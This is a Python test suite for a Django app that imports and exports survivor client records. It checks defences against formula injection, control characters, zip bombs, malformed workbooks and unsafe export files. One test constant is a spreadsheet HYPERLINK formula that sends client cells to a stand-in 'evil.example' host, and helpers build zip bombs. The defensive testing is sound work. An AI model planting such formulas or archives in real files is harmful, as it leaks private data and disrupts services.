"""Hostile files and values: no formula in any sheet, no 500 from a control character, a zip bomb,
a malformed workbook or an odd number, and export files only their owner can read."""

from __future__ import annotations

import io
import os
import stat
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from ally.audit.models import AuditEvent
from ally.htcds import importer
from ally.htcds.export import export_clients
from ally.htcds.importer import import_clients
from ally.survivors import actions as survivor_actions
from ally.survivors.models import Client
from tests.api.token_client import Api

EVIL = '=HYPERLINK("http://evil.example/?"&Clients!A2&Clients!B2,"About")'


def refusals():
    return AuditEvent.objects.filter(event_type="htcds.import_refused").count()


def workbook(*rows) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezip(content: bytes, change) -> bytes:
    """The workbook with its members passed through ``change(name, data) -> (ZipInfo|name, data)|None``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            changed = change(info.filename, source.read(info))
            if changed is not None:
                target.writestr(*changed)
    return out.getvalue()


def assert_refused_generically(org, admin, content, *, secret: str = "") -> str:
    before = refusals()
    result = import_clients(org, content, acting_user=admin)
    assert result.created == [] and len(result.problems) == 1
    (problem,) = result.problems
    assert problem.row is None
    assert Client.objects.filter(organization=org).count() == 0
    assert refusals() == before + 1
    if secret:
        assert secret not in problem.reason
    return problem.reason


# 1. Every string cell of every sheet is typed text, never a formula.


def test_an_organization_name_starting_with_equals_is_text_in_the_about_sheet(vsp, vsp_admin):
    vsp.name = EVIL
    vsp.save()
    survivor_actions.create_client(vsp, acting_user=vsp_admin, legal_name="Rosa Diaz", recruitment="=1+1")
    book = openpyxl.load_workbook(io.BytesIO(export_clients(vsp, fmt="xlsx", acting_user=vsp_admin).content))
    about = {row[0].value: row[1] for row in book["About"].iter_rows()}
    assert about["Organization"].value == EVIL
    assert about["Organization"].data_type == "s" and about["Organization"].quotePrefix
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)


# 2 and 6. Control characters.


def test_a_control_character_in_a_client_field_does_not_break_the_workbook(vsp, vsp_admin):
    survivor_actions.create_client(
        vsp, acting_user=vsp_admin, legal_name="Rosa\x0bDiaz", recruitment="line one\nline\x1ftwo\ttab"
    )
    content = export_clients(vsp, fmt="xlsx", acting_user=vsp_admin).content
    clients = openpyxl.load_workbook(io.BytesIO(content))["Clients"]
    values = [cell.value for cell in clients[2] if isinstance(cell.value, str)]
    assert "Rosa\ufffdDiaz" in values and "line one\nline\ufffdtwo\ttab" in values
    assert not any(importer.CONTROL_CHARACTERS.search(value) for value in values)


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\x1b", "\x08"])
def test_a_cell_with_a_control_character_is_a_row_problem_and_nothing_is_imported(vsp, vsp_admin, character):
    before = refusals()
    content = f"prs_FirstName,prs_SecondName,prs_MailingCity\nLin,Mai,Madison\nRosa,Diaz,Mad{character}ison\n".encode()
    result = import_clients(vsp, content, acting_user=vsp_admin)
    assert [(p.row, p.column) for p in result.problems] == [(3, "prs_MailingCity")]
    assert "control character" in result.problems[0].reason
    assert character not in result.problems[0].reason
    assert Client.objects.count() == 0 and refusals() == before + 1


def test_tabs_and_line_breaks_are_still_imported(vsp, vsp_admin):
    content = b'prs_FirstName,prs_SecondName,prs_MailingCity\nRosa,Diaz,"Mad\tison\r\nnorth"\n'
    assert import_clients(vsp, content, acting_user=vsp_admin).problems == []
    assert Client.objects.get().city == "Mad\tison\r\nnorth"


# 3. Blank rows, wide sheets, zip bombs.


def test_blank_rows_count_towards_the_row_limit(vsp, vsp_admin, monkeypatch):
    monkeypatch.setattr("ally.htcds.importer.MAX_ROWS", 5)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["prs_FirstName", "prs_SecondName"])
    sheet.append(["Rosa", "Diaz"])
    sheet.cell(1_000_000, 1, "Lin")
    out = io.BytesIO()
    book.save(out)
    reason = assert_refused_generically(vsp, vsp_admin, out.getvalue())
    assert "more than 5 rows" in reason


def test_blank_csv_lines_count_towards_the_row_limit(vsp, vsp_admin, monkeypatch):
    monkeypatch.setattr("ally.htcds.importer.MAX_ROWS", 5)
    content = b"prs_FirstName,prs_SecondName\nRosa,Diaz\n" + b"\n" * 10 + b"Lin,Mai\n"
    assert "more than 5 rows" in assert_refused_generically(vsp, vsp_admin, content)


def test_a_sheet_is_read_no_wider_than_the_columns_ally_knows(vsp, vsp_admin, monkeypatch):
    widths = []
    real = openpyxl.reader.excel.ExcelReader.read

    def spy(self):
        real(self)
        sheet = self.wb.worksheets[0]
        original = sheet.iter_rows

        def iter_rows(*args, **kwargs):
            widths.append(kwargs.get("max_col"))
            return original(*args, **kwargs)

        sheet.iter_rows = iter_rows

    monkeypatch.setattr(openpyxl.reader.excel.ExcelReader, "read", spy)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["prs_FirstName", "prs_SecondName"])
    sheet.append(["Rosa", "Diaz"])
    sheet.cell(2, 16_000, "far away")
    out = io.BytesIO()
    book.save(out)
    result = import_clients(vsp, out.getvalue(), acting_user=vsp_admin)
    assert result.problems == [] and Client.objects.get().legal_name == "Rosa Diaz"
    assert widths and widths[0] is not None and widths[0] < 200


def test_a_header_wider_than_any_importable_file_is_refused(vsp, vsp_admin):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["prs_FirstName", "prs_SecondName"])
    sheet.append(["Rosa", "Diaz"])
    sheet.cell(1, importer._max_columns() + 1, "Extra")
    out = io.BytesIO()
    book.save(out)
    assert "columns" in assert_refused_generically(vsp, vsp_admin, out.getvalue())


def test_a_zip_bomb_is_refused_before_the_workbook_is_opened(vsp, vsp_admin, monkeypatch):
    opened = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: opened.append(1))
    good = workbook(["prs_FirstName", "prs_SecondName"], ["Rosa", "Diaz"])
    for size in (60 * 1024 * 1024, 3 * 1024 * 1024):  # too big; small but 1000 times compressed

        def bomb(name, data, size=size):
            return name, (data + b" " * size if name == "xl/worksheets/sheet1.xml" else data)

        content = rezip(good, bomb)
        assert len(content) < importer.MAX_BYTES
        assert "MB" in assert_refused_generically(vsp, vsp_admin, content)
    assert opened == []


def test_an_ordinary_workbook_passes_the_archive_check(vsp, vsp_admin):
    rows = [["prs_FirstName", "prs_SecondName", "prs_MailingCity"]] + [[f"Name{i}", "Same", "Madison"] for i in range(2000)]
    importer._check_archive(workbook(*rows))  # no exception


# 4. Malformed workbooks.


def _patched(content: bytes, method: int | None = None, flags: int = 0) -> bytes:
    """The workbook with every member stored, then (in every local and central header) its
    compression method set to ``method`` and the general-purpose ``flags`` bits added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            target.writestr(info.filename, source.read(info))
    data = bytearray(out.getvalue())
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            bits = int.from_bytes(data[start + flag_at : start + flag_at + 2], "little") | flags
            data[start + flag_at : start + flag_at + 2] = bits.to_bytes(2, "little")
            if method is not None:
                data[start + flag_at + 2 : start + flag_at + 4] = method.to_bytes(2, "little")
            start = data.find(signature, start + 4)
    return bytes(data)


@pytest.mark.parametrize(
    "damage",
    [
        lambda good: rezip(good, lambda n, d: (n, b"<worksheet><sheetData><row r='1'>SECRET-XML" if n == "xl/worksheets/sheet1.xml" else d)),
        lambda good: rezip(good, lambda n, d: (n, b"<workbook SECRET-XML" if n == "xl/workbook.xml" else d)),
        lambda good: _patched(good, flags=0x1),
        lambda good: _patched(good, method=99),
    ],
    ids=["broken-sheet", "broken-workbook", "encrypted", "unknown-compression"],
)
def test_a_malformed_workbook_is_one_generic_refusal(vsp, vsp_admin, damage):
    good = workbook(["prs_FirstName", "prs_SecondName"], ["Rosa", "Diaz"])
    reason = assert_refused_generically(vsp, vsp_admin, damage(good), secret="SECRET")
    assert reason == "The XLSX workbook cannot be read."


# 5. Numbers.


@pytest.mark.parametrize("age", ["²", "1" * 5000, "١٢", "0017"])
def test_an_age_that_is_not_a_small_ascii_number_is_a_row_problem(vsp, vsp_admin, age):
    content = f"prs_FirstName,prs_SecondName,Age When Trafficked\nRosa,Diaz,{age}\n".encode()
    result = import_clients(vsp, content, acting_user=vsp_admin)
    assert [p.row for p in result.problems] == [2] and "whole number" in result.problems[0].reason
    assert Client.objects.count() == 0


# 7. The command line's export file.


def test_the_command_line_export_is_private_and_never_overwrites_without_force(vsp, vsp_admin, tmp_path):
    survivor_actions.create_client(vsp, acting_user=vsp_admin, legal_name="Rosa Diaz")
    out = tmp_path / "clients.csv"
    call_command("htcds", "export", "--org", vsp.slug, "--format", "csv", "--output", str(out))
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600 and "Rosa" in out.read_text("utf-8-sig")
    exports = AuditEvent.objects.filter(event_type="htcds.exported").count()
    existing = tmp_path / "existing.csv"
    existing.write_text("keep me")
    with pytest.raises(CommandError, match="already exists.*--force"):
        call_command("htcds", "export", "--org", vsp.slug, "--format", "csv", "--output", str(existing))
    assert existing.read_text() == "keep me"
    assert AuditEvent.objects.filter(event_type="htcds.exported").count() == exports  # nothing exported
    existing.chmod(0o644)
    call_command("htcds", "export", "--org", vsp.slug, "--format", "csv", "--output", str(existing), "--force")
    assert "Rosa" in existing.read_text("utf-8-sig") and stat.S_IMODE(os.stat(existing).st_mode) == 0o600


# 8. The API's export is not cached.


def test_the_api_export_is_not_cached(vsp, vsp_admin):
    response = Api(vsp_admin).get(f"/organizations/{vsp.pk}/htcds/export", format="csv")
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
